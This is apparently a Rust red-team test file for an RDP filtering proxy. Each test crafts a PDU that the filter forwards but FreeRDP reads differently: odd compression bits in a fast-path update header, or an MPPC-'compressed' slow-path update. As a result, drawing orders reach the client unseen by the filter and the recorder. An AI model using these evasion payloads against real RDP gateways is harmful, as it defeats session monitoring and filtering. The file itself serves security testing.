//! Red team `h-red17e`: attacks on the filter's rules that PASS while each hole is open (the
//! filter forwards what a real peer acts on). Each test names the peer function that reads the
//! bytes differently from the filter.

use super::*;
use ironrdp_pdu::rdp::capability_sets::{
    CapabilitySet, ClientConfirmActive, DemandActive, Order, OrderFlags, OrderSupportExFlags, OrderSupportIndex,
};
use ironrdp_pdu::rdp::headers::{ShareControlHeader, ShareControlPdu};

fn injection() -> Injection {
    Injection { username: "root".into(), domain: Some("TGT".into()), password: "target-secret".into() }
}

/// A filter past the connection sequence on I/O channel 1003; `active`: the target's Demand
/// Active has passed.
fn filter(active: bool) -> Filter {
    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::default(), injection());
    (f.connect_initial_seen, f.client_info_seen, f.io_channel, f.active) = (true, true, Some(1003), active);
    f
}

fn send_data(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataRequest { initiator_id: 1007, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

fn send_indication(channel: u16, user_data: Vec<u8>) -> Vec<u8> {
    encode_vec(&X224(SendDataIndication { initiator_id: 1002, channel_id: channel, user_data: Cow::Owned(user_data) }))
        .unwrap()
}

/// One primary drawing order, as a fast-path or slow-path orders update carries it after
/// numberOrders: a DSTBLT (controlFlags TS_STANDARD | TS_TYPE_CHANGE, orderType 0, all five
/// fields) inverting a 64x64 square at the top left (rop 0x55, DSTINVERT). FreeRDP's
/// `update_recv_primary_order` draws it when the client's own OrderSupport[NEG_DSTBLT_INDEX] is
/// on (xfreerdp's default; the box trims only the copy of the caps the target gets). Every byte
/// is below 0x80, so MPPC codes it as itself (see `red17e_compressed_slow_path_orders_pass`).
const DSTBLT: [u8; 12] = [0x09, 0x00, 0x1F, 0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x40, 0x00, 0x55];

/// The body of a fast-path orders update: numberOrders (1), then the order.
fn fast_path_orders_body() -> Vec<u8> {
    let mut body = 1u16.to_le_bytes().to_vec();
    body.extend(DSTBLT);
    body
}

/// FreeRDP 2.11 and 3's reading of a fast-path output PDU's updates (`fastpath_recv_updates` /
/// `fastpath_recv_update_data`, libfreerdp/core/fastpath.c): the update header's compression
/// bits (6..8) are compared with FASTPATH_OUTPUT_COMPRESSION_USED (2) for equality, and only
/// then is a compressionFlags byte read; updates are read while 3 bytes remain. Returns each
/// update's code and data.
fn freerdp_fast_path_updates(frame: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let (length, mut at) = crate::decode::fast_path_length(frame).unwrap();
    assert_eq!(length, frame.len());
    let mut updates = Vec::new();
    while frame.len() - at >= 3 {
        let header = frame[at];
        at += 1;
        if (header >> 6) & 0x03 == 2 {
            at += 1;
        }
        let size = usize::from(u16::from_le_bytes([frame[at], frame[at + 1]]));
        at += 2;
        assert!(at + size <= frame.len(), "freerdp would fail the pdu");
        updates.push((header & 0x0F, frame[at..at + size].to_vec()));
        at += size;
    }
    updates
}

/// A fast-path output PDU (header 0x00, two-byte length) holding `body`.
fn fast_path(body: &[u8]) -> Vec<u8> {
    let len = body.len() + 3;
    let mut frame = vec![0x00, 0x80 | u8::try_from(len >> 8).unwrap(), u8::try_from(len & 0xFF).unwrap()];
    frame.extend(body);
    frame
}

/// HOLE (rule 4, fast-path): compression bits 01 in an update header. The filter's
/// `fast_path_orders` skips a compressionFlags byte whenever the bits are not 0
/// (`update >> 6 != 0`); FreeRDP reads one only when they are exactly 2 (FreeRDP 2.11 and 3,
/// `fastpath_recv_update_data`: `if (compression == FASTPATH_OUTPUT_COMPRESSION_USED)`), and so
/// does IronRDP (`FastPathUpdatePdu::decode`: `compression.contains(COMPRESSION_USED)`, 0x2), the
/// decoder's parser. A Synchronize update (FreeRDP ignores its data:
/// `fastpath_recv_update_synchronize` is a SafeSeek) with header 0x43 makes the filter read its
/// size one byte late, as 0xFF00, and walk off the PDU; FreeRDP and IronRDP read the orders
/// update behind it, and the client draws it. The target ends no session and the recording
/// never shows the drawing.
#[test]
fn red17e_fast_path_orders_behind_compression_bits_01_pass() {
    let orders = fast_path_orders_body();
    let mut body = vec![0x43, 0x02, 0x00, 0xFF, 0x00]; // Synchronize, compression 01, size 2
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    // FreeRDP reads a synchronize, then the DSTBLT.
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0xFF, 0x00]), (0x00, orders.clone())]);
    // IronRDP (the recorder's parser) reads the same two updates.
    let mut cursor = ReadCursor::new(&frame);
    decode_cursor::<ironrdp_pdu::fast_path::FastPathHeader>(&mut cursor).unwrap();
    let first = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    let second = decode_cursor::<ironrdp_pdu::fast_path::FastPathUpdatePdu<'_>>(&mut cursor).unwrap();
    assert_eq!(first.update_code, ironrdp_pdu::fast_path::UpdateCode::Synchronize);
    assert_eq!(second.update_code, ironrdp_pdu::fast_path::UpdateCode::Orders);
    assert_eq!(second.data, &orders[..]);
    // The filter passes it.
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
    // Control: the same orders update alone is refused.
    let mut alone = vec![0x00];
    alone.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    alone.extend(&orders);
    assert_eq!(filter(true).from_target(&fast_path(&alone)).unwrap(), Verdict::Refuse(ORDERS));
}

/// HOLE (rule 4, fast-path): compression bits 11. The filter (and IronRDP, which tests the 0x2
/// bit) read a compressionFlags byte; FreeRDP does not (`fastpath_recv_update_data` compares the
/// bits with 2 for equality). After a Synchronize header 0xC3 come [0x01, 0x00, 0x10]: FreeRDP
/// reads size 1 (data 0x10, ignored by `fastpath_recv_update_synchronize`) and then the orders
/// update; the filter reads compressionFlags 0x01 and size 0x1000, past the PDU's end, and stops
/// walking without refusing. The client draws the DSTBLT; the recorder (IronRDP reads it as the
/// filter does, a truncated Synchronize) never sees it.
#[test]
fn red17e_fast_path_orders_behind_compression_bits_11_pass() {
    let orders = fast_path_orders_body();
    let mut body = vec![0xC3, 0x01, 0x00, 0x10];
    body.push(0x00); // orders, single fragment, no compression
    body.extend(u16::try_from(orders.len()).unwrap().to_le_bytes());
    body.extend(&orders);
    let frame = fast_path(&body);
    let read = freerdp_fast_path_updates(&frame);
    assert_eq!(read, vec![(0x03, vec![0x10]), (0x00, orders)]);
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
}

/// HOLE (rule 4, slow-path): drawing orders in a bulk-compressed Update PDU. `slow_path_orders`
/// looks only at uncompressed Share Data PDUs; the box asked the target for no compression (the
/// Client Info it forwards), but the client still decompresses whatever arrives: FreeRDP 2.11
/// and 3 `rdp_recv_data_pdu` run `bulk_decompress` on every Data PDU with PACKET_COMPRESSED in
/// its compressedType (any of MPPC 8K/64K, NCRUSH, XCRUSH, by its type bits, history or not),
/// then `update_recv` → `update_recv_orders` draws them. MPPC codes each byte below 0x80 as
/// itself, so "compressing" the update is copying it. The recorder has no decompressor (the
/// decoder took `compression: None` from the rewritten Client Info) and cannot see the orders.
#[test]
fn red17e_compressed_slow_path_orders_pass() {
    const PACKET_COMPRESSED: u8 = 0x20;
    // updateType ORDERS, pad2OctetsA, numberOrders 1, pad2OctetsB, then the DSTBLT.
    let mut update = vec![0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00];
    update.extend(DSTBLT);
    assert!(update.iter().all(|&b| b < 0x80), "MPPC literals code as themselves");
    let compressed = update.clone();
    // A real MPPC decompressor (RDP4, 8K history) gives back the orders update.
    let mut bulk = ironrdp_bulk::BulkCompressor::new(ironrdp_bulk::CompressionType::Rdp4);
    assert_eq!(bulk.decompress(&compressed, u32::from(PACKET_COMPRESSED)).unwrap(), &update[..]);
    // Share Control header (data PDU), Share Data header: shareId, pad1, streamId,
    // uncompressedLength, pduType2 UPDATE, compressedType PACKET_COMPRESSED | 8K,
    // compressedLength (18 + the compressed bytes, as `rdp_recv_data_pdu` reads it).
    let total = 18 + compressed.len();
    let mut pdu = u16::try_from(total).unwrap().to_le_bytes().to_vec();
    pdu.extend(0x0017u16.to_le_bytes());
    pdu.extend(1002u16.to_le_bytes());
    pdu.extend(0x0001_03EAu32.to_le_bytes());
    pdu.extend([0x00, 0x01]);
    pdu.extend(u16::try_from(4 + update.len()).unwrap().to_le_bytes());
    pdu.extend([0x02, PACKET_COMPRESSED]);
    pdu.extend(u16::try_from(18 + compressed.len()).unwrap().to_le_bytes());
    pdu.extend(&compressed);
    let frame = send_indication(1003, pdu.clone());
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
    // Control: the same PDU uncompressed is refused.
    let mut plain = pdu;
    plain[15] = 0;
    assert_eq!(filter(true).from_target(&send_indication(1003, plain)).unwrap(), Verdict::Refuse(ORDERS));
}
